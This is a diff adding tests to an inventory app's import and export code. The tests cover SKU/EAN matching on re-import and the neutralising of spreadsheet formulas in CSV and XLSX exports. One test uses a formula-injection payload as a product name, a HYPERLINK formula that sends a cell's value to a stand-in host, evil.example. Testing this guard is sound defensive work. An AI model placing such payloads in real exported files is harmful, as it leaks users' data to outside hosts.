@@ -114,8 +114,9 @@ describe('import commit', () => {
   it('importing the same file again changes nothing: every row is found by its SKU and unchanged', async () => {
     const before = (await s.ok('getProduct', { filter: '%' })).products.length;
     const p = await c.ok('import.preview', { file: HU });
-    // The row without a SKU cannot be matched: it would be made again, and the preview says it is new.
+    // The row without a SKU or EAN cannot be matched: it would be made again, and the preview says so.
     expect(p.counts).toEqual({ create: 1, update: 0, unchanged: 5, skip: 0, invalid: 4 });
+    expect(p.warnings).toEqual([{ row: 11, code: 'no_key' }]);
     const mapping = { ...p.mapping };
     const r = await c.ok('import.commit', { file: HU, mapping, existing: 'skip' });
     expect(r).toMatchObject({ created: 1, updated: 0, unchanged: 5 });
@@ -135,6 +136,42 @@ describe('import commit', () => {
     await drain();
     expect(await serverBySku('DBL-1')).toHaveLength(1);
     expect((await serverBySku('DBL-2'))[0]).toMatchObject({ list_price: 1.5 });
+  });
+});
+
+describe('rows without a SKU', () => {
+  const file = (name: string, csv: string) => ({ name, data: Buffer.from(csv, 'utf8').toString('base64') });
+  const EAN_ONLY = file('vonalkodos.csv', 'Név;Vonalkód;Ár\nEAN-os csavar;5991234100015;120\nEAN-os anya;5991234100022;80\nKulcs nélkül;;50\n');
+
+  it('are matched by their EAN: importing the file again queues nothing for them', async () => {
+    const first = await c.ok('import.commit', { file: EAN_ONLY });
+    expect(first).toMatchObject({ created: 3, unchanged: 0 });
+    await drain();
+    const countOnServer = async (filter: string) => (await s.ok('getProduct', { filter })).products.length;
+    expect(await countOnServer('EAN-os csavar')).toBe(1);
+    const p = await c.ok('import.preview', { file: EAN_ONLY });
+    const byRow = new Map(p.rows.map((r) => [r.row, r]));
+    expect(byRow.get(2)).toMatchObject({ action: 'unchanged', existingId: expect.any(Number) });
+    expect(byRow.get(3)).toMatchObject({ action: 'unchanged' });
+    // Neither SKU nor EAN: made again on every import, and the preview says so for that row.
+    expect(byRow.get(4)).toMatchObject({ action: 'create', existingId: null });
+    expect(p.warnings).toEqual([{ row: 4, code: 'no_key' }]);
+    const again = await c.ok('import.commit', { file: EAN_ONLY, existing: 'skip' });
+    expect(again).toMatchObject({ created: 1, updated: 0, unchanged: 2 });
+    await drain();
+    expect(await countOnServer('EAN-os csavar')).toBe(1);
+    expect(await countOnServer('EAN-os anya')).toBe(1);
+    expect(await countOnServer('Kulcs nélkül')).toBe(2);
+  });
+
+  it('a file whose rows all have an EAN and no SKU: the second import queues nothing at all', async () => {
+    const f = file('csak-ean.csv', 'name;ean;price\nVonalkód egy;5991234100039;10\nVonalkód kettő;5991234100046;"2,5"\n');
+    expect(await c.ok('import.commit', { file: f })).toMatchObject({ created: 2 });
+    await drain();
+    const second = await c.ok('import.commit', { file: f });
+    expect(second).toMatchObject({ created: 0, updated: 0, unchanged: 2, entries: null });
+    expect((await c.ok('sync.status', {})).outbox.queued).toBe(0);
+    expect((await s.ok('getProduct', { filter: 'Vonalkód egy' })).products).toHaveLength(1);
   });
 });
 
@@ -187,6 +224,52 @@ describe('exports', () => {
       }
     });
     expect(found).toBe(true);
+  });
+
+  it('text a spreadsheet would run as a formula is exported as text; negative numbers stay numbers', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1;"Kattints")';
+    const { id } = await s.ok('setProduct', { product_name: name, item_number: '+36-1-555', manufacturer: '@SUM(1+1)', product_group: '-2+3', currency: 'HUF', vat: 27, unit: 'db', list_price: 10 });
+    await s.ok('setQuantity', { product_id: id, quantity: 10, contact_id: s.account.supplierContactId, warehouse: 'Győr' });
+    await s.ok('setQuantity', { product_id: id, quantity: -5, contact_id: s.account.supplierContactId, warehouse: 'Győr' });
+    s.clock.advance(60_000);
+    await c.ok('sync.now', {});
+    const csv = await c.ok('export.catalogue', { format: 'csv', titles, fileName: 'készlet' });
+    const text = Buffer.from(csv.data, 'base64').toString('utf8');
+    const row = parseCsv(text).rows.find((r) => r[0] === String(id))!;
+    // OWASP's advice for CSV: a leading apostrophe makes the spreadsheet show the text instead of running it.
+    expect(row.slice(1, 5)).toEqual(["'+36-1-555", '', `'${name}`, "'-2+3"]);
+    expect(row[9]).toBe('5');
+    const risky = parseCsv(text).rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell));
+    expect(risky).toEqual([]);
+
+    const kinds = { takein: 'Bevételezés', wasting: 'Selejtezés', delivery: 'Kiszállítás', po_takein: 'Beszerzés', transfer: 'Átvezetés' };
+    const historyTitles = { date: 'Dátum', kind: 'Mozgás', warehouse: 'Raktár', bin: 'Polc', quantity: 'Mennyiség', balance: 'Egyenleg', price: 'Ár', currency: 'Pénznem', partner: 'Partner', document: 'Bizonylat' };
+    const h = await c.ok('export.history', { productId: id, titles: historyTitles, kinds, fileName: 'mozgások', format: 'csv' });
+    const moves = parseCsv(Buffer.from(h.data, 'base64').toString('utf8')).rows;
+    // A negative quantity is a number, not guarded text.
+    expect(moves[1]!.slice(4, 6)).toEqual(['-5', '5']);
+
+    // XLSX: text cells are text (a formula is a cell of its own kind), numbers number cells.
+    const x = await c.ok('export.catalogue', { format: 'xlsx', titles, fileName: 'készlet' });
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(x.data, 'base64') as unknown as ArrayBuffer);
+    let cells: unknown[] = [];
+    wb.worksheets[0]!.eachRow((r) => {
+      const v = (r.values as unknown[]).slice(1);
+      if (v[0] === id) cells = v;
+    });
+    expect([cells[1], cells[3], cells[4]]).toEqual(["'+36-1-555", `'${name}`, "'-2+3"]);
+    const xh = await c.ok('export.history', { productId: id, titles: historyTitles, kinds, fileName: 'mozgások', format: 'xlsx' });
+    const hb = new ExcelJS.Workbook();
+    await hb.xlsx.load(Buffer.from(xh.data, 'base64') as unknown as ArrayBuffer);
+    expect((hb.worksheets[0]!.getRow(2).values as unknown[]).slice(5, 7)).toEqual([-5, 5]);
+
+    // The exported file imported again leaves the products as they are: the guard is read back off.
+    const back = await c.ok('import.preview', { file: { name: 'vissza.csv', data: csv.data } });
+    const mine = back.rows.find((r) => r.existingId === id);
+    expect(mine).toMatchObject({ action: 'unchanged', name, itemNumber: '+36-1-555' });
+    const backX = await c.ok('import.preview', { file: { name: 'vissza.xlsx', data: x.data } });
+    expect(backX.rows.find((r) => r.existingId === id)).toMatchObject({ action: 'unchanged', name, itemNumber: '+36-1-555' });
   });
 
   it('a product\'s stock history, every movement, as CSV and XLSX', async () => {
